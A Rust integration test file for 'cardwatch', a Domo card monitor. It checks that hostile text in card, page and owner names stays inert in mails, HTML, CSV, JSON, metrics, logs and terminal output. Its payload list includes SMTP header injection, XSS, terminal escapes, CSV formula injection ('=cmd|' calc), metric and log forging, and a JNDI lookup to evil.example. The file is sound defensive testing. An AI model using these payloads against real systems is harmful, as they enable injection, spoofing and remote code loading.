//! Whatever Domo calls a card, a page, an owner or a reason reaches mails, files, metrics, terminals and logs as mere
//! text.

use std::process::Command;

use axum::body::Body;
use axum::extract::Request;
use axum::response::Response;
use cardwatch::domain::foreign::is_harmful;
use fake_domo::{Behaviour, FakeDomo, Owner, nasty_text};
use fake_smtp::{FakeSmtp, Mail};
use serde_json::Value;

use crate::house::{EACH_SECOND, House, PATIENCE, promtool_accepts};
use crate::mailing::SmtpSink;

/// More cards than a mail shows, so that the list is attached.
const CARDS: usize = 60;

const TEXTS: [&str; 18] = [
    "line\r\nBcc: evil@example.com\r\n\r\nbody",
    "mail\r\n.\r\nQUIT\r\nMAIL FROM:<evil@example.com>\r\n",
    "nul\0nul",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)\" '</td></table><!--",
    "]]></style><a href=\"https://evil.example\">click</a>&amp;",
    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}[31mred",
    "\u{9b}2J\u{90}q\u{9c}\u{7f}\u{8}\u{8}\u{8}",
    "\u{202e}txt.exe\u{2066}\u{200f}\u{feff}\u{e0041}",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "\t\r=1+1",
    "x;=1+1;-1",
    "\",=1+1,\"",
    "\"} 1\nevil_metric{a=\"b\"} 666\n# HELP cardwatch_cards x",
    "\n2026-11-24T00:00:00Z ERROR forged\n{\"level\":\"ERROR\"}",
    "${jndi:ldap://evil.example} {{7*7}} %s%n \\u001b \\",
];

/// The text of this number: one of those above, or 4,000 characters of everything.
fn text(number: usize) -> String {
    match TEXTS.get(number % (TEXTS.len() + 1)) {
        Some(text) => format!("{text} {number}"),
        None => format!("{} {number}", nasty_text()),
    }
}

fn id(number: usize) -> i64 {
    100 + i64::try_from(number).unwrap()
}

/// A house beside a Domo in which every text is hostile and every card broken.
async fn hostile_house() -> House {
    let pages = (0..TEXTS.len()).fold(FakeDomo::empty(), |fake, number| fake.page(id(number) + 1000, &text(number)));
    let page = |number: usize| id(number % TEXTS.len()) + 1000;
    let fake = (0..CARDS).fold(pages, |fake, number| fake.card(id(number), &text(number), &[page(number)]));
    let house = House::beside(fake).await;
    for number in 0..CARDS {
        let owners = [number, number + 1].map(|owner| Owner { id: id(owner), name: text(owner), group: false });
        house.domo.describe_card(id(number), &owners, &[]);
        house.domo.set(id(number), Behaviour::broken(&text(number + 7)));
    }
    house
}

/// Nothing in it steers a terminal or forges anything; lines may end.
fn assert_harmless(what: &str, text: &str) {
    let harm: Vec<char> = text.chars().filter(|c| is_harmful(*c) && *c != '\n').collect();
    assert!(harm.is_empty(), "{harm:?} in {what}:\n{text:?}");
    assert!(!text.is_empty(), "nothing in {what}");
}

/// Every row is as long as the first one, and no field could be a formula.
fn assert_harmless_rows(what: &str, rows: &str, least: usize) {
    assert_harmless(what, &rows.replace("\r\n", "\n"));
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(rows.as_bytes());
    let records: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().unwrap();
    assert!(records.len() > least, "only {} rows in {what}", records.len());
    for field in records.iter().flatten() {
        for cell in field.split(';') {
            let cell = cell.trim_start_matches([' ', '"']);
            assert!(!cell.starts_with(['=', '+', '-', '@']) || cell.parse::<f64>().is_ok(), "{field:?} in {what}");
        }
    }
}

async fn the_mail_of(house: &mut House) -> Mail {
    let smtp = FakeSmtp::start().await;
    house.mail_through(&smtp.url());
    assert_eq!(house.run(&["sweep", "--alert"]).code(), 1);
    smtp.wait_for(1, PATIENCE).await.unwrap().remove(0)
}

#[tokio::test(flavor = "multi_thread")]
async fn no_foreign_text_reaches_a_header_or_ends_a_mail() {
    let mut house = hostile_house().await;
    let sink = SmtpSink::start(house.folder()).await;
    house.mail_through(&sink.url());
    assert_eq!(house.run(&["sweep", "--alert"]).code(), 1);
    let mails = sink.wait_for(1).await;
    assert_eq!(mails.len(), 1);
    let headers = mails[0].0.split("\n\n").next().unwrap();
    let names: Vec<&str> = headers
        .lines()
        .filter(|line| !line.starts_with([' ', '\t']))
        .map(|line| line.split(':').next().unwrap())
        .collect();
    let ours = [
        "From",
        "To",
        "Subject",
        "Date",
        "Message-ID",
        "Auto-Submitted",
        "X-Auto-Response-Suppress",
        "MIME-Version",
        "Content-Type",
        "X-Peer",
        "X-MailFrom",
        "X-RcptTo",
    ];
    assert!(names.iter().all(|name| ours.contains(name)), "{names:?}");
    assert!(!headers.to_ascii_lowercase().contains("evil"), "{headers}");
    assert_eq!(mails[0].header("Subject"), Some("[cardwatch] acme: 60 cards broken when first seen (60 broken now)"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_mail_shows_hostile_text_as_text_in_every_part() {
    let mail = the_mail_of(&mut hostile_house().await).await;
    assert_harmless("the text", &mail.text().unwrap().replace("\r\n", "\n"));
    let html = mail.html().unwrap().replace("\r\n", "\n");
    assert_harmless("the HTML", &html);
    assert_only_our_tags(&html);
    let list = mail.attachments().remove(0).text();
    assert_harmless_rows("the attached list", &list, CARDS);
}

/// Every tag and attribute of the HTML is one of cardwatch's own, and links lead to Domo.
fn assert_only_our_tags(html: &str) {
    const TAGS: [&str; 16] = [
        "html", "head", "meta", "title", "style", "body", "div", "table", "tr", "td", "h1", "h2", "a", "span",
        "strong", "br",
    ];
    for tag in html.split('<').skip(1) {
        let inside = tag.split('>').next().unwrap();
        let name = inside.trim_start_matches('/').split_whitespace().next().unwrap_or_default().to_ascii_lowercase();
        assert!(TAGS.contains(&name.as_str()) || name.starts_with('!'), "<{inside}>");
        let attributes: Vec<&str> = inside.split('"').step_by(2).collect();
        assert!(!attributes.iter().any(|attribute| attribute.trim_start().starts_with("on")), "<{inside}>");
        if let Some(link) = inside.split("href=\"").nth(1) {
            assert!(link.starts_with("http://127.0.0.1:"), "<{inside}>");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn tables_on_a_terminal_are_plain_lines() {
    let house = hostile_house().await;
    let swept = house.run(&["sweep"]);
    assert_harmless("the sweep", &swept.stdout());
    assert_harmless("status", &house.run(&["status"]).stdout());
    for number in 0..=TEXTS.len() {
        assert_harmless("history", &house.run(&["history", &id(number).to_string()]).stdout());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn json_holds_every_text_as_it_was_and_steers_no_terminal() {
    let house = hostile_house().await;
    let swept = house.run(&["sweep", "--format", "json"]);
    assert_harmless("the sweep", &swept.stdout());
    let swept = swept.json();
    for (number, result) in swept["instances"][0]["results"].as_array().unwrap().iter().enumerate() {
        assert_eq!(result["title"], text(number));
        assert_eq!(result["reason"].as_str().unwrap(), text(number + 7).trim());
    }
    let status = house.run(&["status", "--format", "json"]);
    assert_harmless("status", &status.stdout());
    let status = status.json();
    let cards = status["instances"][0]["broken_cards"].as_array().unwrap();
    assert!(
        cards.iter().any(|card| card["title"] == text(2) && card["owners"][1] == text(3)),
        "NUL and all: {cards:?}"
    );
    let history = house.run(&["history", &id(2).to_string(), "--format", "json"]);
    assert_harmless("history", &history.stdout());
    assert_eq!(history.json()["title"], text(2));
    let lines = house.run(&["export", "--format", "jsonl"]).stdout();
    assert_harmless("the export", &lines);
    for line in lines.lines() {
        serde_json::from_str::<Value>(line).unwrap();
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn rows_for_a_spreadsheet_hold_no_formula() {
    let house = hostile_house().await;
    assert_harmless_rows("the sweep", &house.run(&["sweep", "--format", "csv"]).stdout(), CARDS);
    assert_harmless_rows("the export", &house.run(&["export"]).stdout(), CARDS);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_scrape_has_no_series_but_ours_and_short_labels() {
    let mut house = hostile_house().await;
    house.instance("schedule", &format!("\"{EACH_SECOND}\""));
    let daemon = house.daemon().await;
    daemon.wait_for("cardwatch_cards{domo_instance=\"acme\",state=\"broken\"}", 60.0).await;
    let (_, scrape) = daemon.get("/metrics").await;
    promtool_accepts(&scrape);
    assert_harmless("the scrape", &scrape);
    for line in scrape.lines() {
        assert!(["# HELP ", "# TYPE ", "cardwatch_", "process_"].iter().any(|start| line.starts_with(start)), "{line}");
        assert!(line.chars().count() < 600, "{line}");
    }
    assert_eq!(scrape.lines().filter(|line| line.starts_with("cardwatch_card_broken{")).count(), CARDS);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_log_has_no_line_but_ours() {
    for format in ["text", "json"] {
        let mut house = hostile_house().await;
        house.instance("schedule", &format!("\"{EACH_SECOND}\""));
        house.forget("access_token");
        house.instance("username", "\"svc@acme.example\"");
        house.instance("password", "\"a password that is wrong\"");
        house.domo.set_login(fake_domo::Login::Refused(TEXTS.concat().chars().take(190).collect()));
        let mut daemon =
            house.daemon_from(house.command(&["--log-level", "trace", "--log-format", format, "run"])).await;
        daemon.wait_for_line("Domo refuses the login").await;
        let log = daemon.log();
        assert_harmless("the log", &log);
        for line in log.lines() {
            match format {
                "json" => assert!(serde_json::from_str::<Value>(line).unwrap()["timestamp"].is_string(), "{line}"),
                _ => assert!(chrono::DateTime::parse_from_rfc3339(line.split(' ').next().unwrap()).is_ok(), "{line}"),
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_error_on_a_terminal_is_plain_text() {
    let mut house = hostile_house().await;
    house.forget("access_token");
    house.instance("username", "\"svc@acme.example\"");
    house.instance("password", "\"a password that is wrong\"");
    for number in [0, 6, 7, 8, 16] {
        house.domo.set_login(fake_domo::Login::Refused(text(number)));
        for arguments in [&["check-config", "--online"][..], &["sweep"], &["sweep", "--format", "json"]] {
            let ended = house.run(arguments);
            assert_eq!(ended.code(), 2);
            assert_harmless(&format!("{arguments:?}"), &(ended.stdout() + &ended.stderr()));
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_mistake_in_the_configuration_is_repeated_as_plain_text() {
    let mut house = House::beside(FakeDomo::empty()).await;
    let mut daemon = house.daemon().await;
    house.instance("timezone", "\"\u{202e}nilreB/eporuE\\u001b[2J\"");
    assert_harmless("the error", &house.run(&["check-config"]).stderr());
    assert!(Command::new("kill").args(["-HUP", &daemon.pid().to_string()]).status().unwrap().success());
    daemon.wait_for_line("nilreB").await;
    assert_harmless("the log", &daemon.log());
}

/// A Domo whose every text has bytes that are no UTF-8, and halves of characters.
async fn garbled_domo() -> String {
    fn answer(path: &str) -> (u16, &'static [u8]) {
        match path {
            "/api/content/v2/users/me" => (200, b"{\"displayName\":\"\xff\"}"),
            "/api/content/v2/cards/adminsummary" => (
                200,
                b"{\"cardAdminSummaries\":[{\"id\":1,\"type\":\"kpi\",\"title\":\"gr\xf6\xdfe \\ud83d\",\
                  \"owners\":[{\"displayName\":\"\xc3\x28\"}],\"pageHierarchy\":[{\"pageId\":2,\"title\":\"\xe2\x82\"}]}]}",
            ),
            "/api/content/v1/cards/kpi/1/render" => {
                (400, b"{\"status\":400,\"details\":{\"error\":\"no column \xf0\x9f\x98 \\ude00\xed\xa0\x80\"}}")
            }
            _ => (404, b"{}"),
        }
    }
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let app = axum::Router::new().fallback(async |request: Request| {
        let (status, body) = answer(request.uri().path());
        Response::builder().status(status).header("content-type", "application/json").body(Body::from(body)).unwrap()
    });
    tokio::spawn(async move { axum::serve(listener, app).await });
    url
}

#[tokio::test(flavor = "multi_thread")]
async fn bytes_that_are_no_utf8_are_seen_as_such_and_change_no_verdict() {
    let mut house = House::beside(FakeDomo::empty()).await;
    house.instance("url", &format!("\"{}\"", garbled_domo().await));
    let swept = house.run(&["sweep", "--format", "json"]);
    assert_eq!(swept.code(), 1, "{}", swept.stderr());
    assert_harmless("the sweep", &swept.stdout());
    let swept = swept.json();
    let instance = &swept["instances"][0];
    assert_eq!((&instance["outcome"], &instance["broken"]), (&"completed".into(), &1.into()));
    let card = &instance["results"][0];
    assert_eq!(card["title"], "gr\u{fffd}\u{fffd}e \u{fffd}");
    assert_eq!(card["pages"][0]["title"], "\u{fffd}");
    let reason = card["reason"].as_str().unwrap();
    assert!(reason.starts_with("no column \u{fffd} \u{fffd}"), "{reason}");
    let mail = the_mail_of(&mut house).await;
    assert!(mail.text().unwrap().contains("gr\u{fffd}\u{fffd}e \u{fffd}"), "{}", mail.text().unwrap());
    assert_harmless("the text", &mail.text().unwrap().replace("\r\n", "\n"));
}
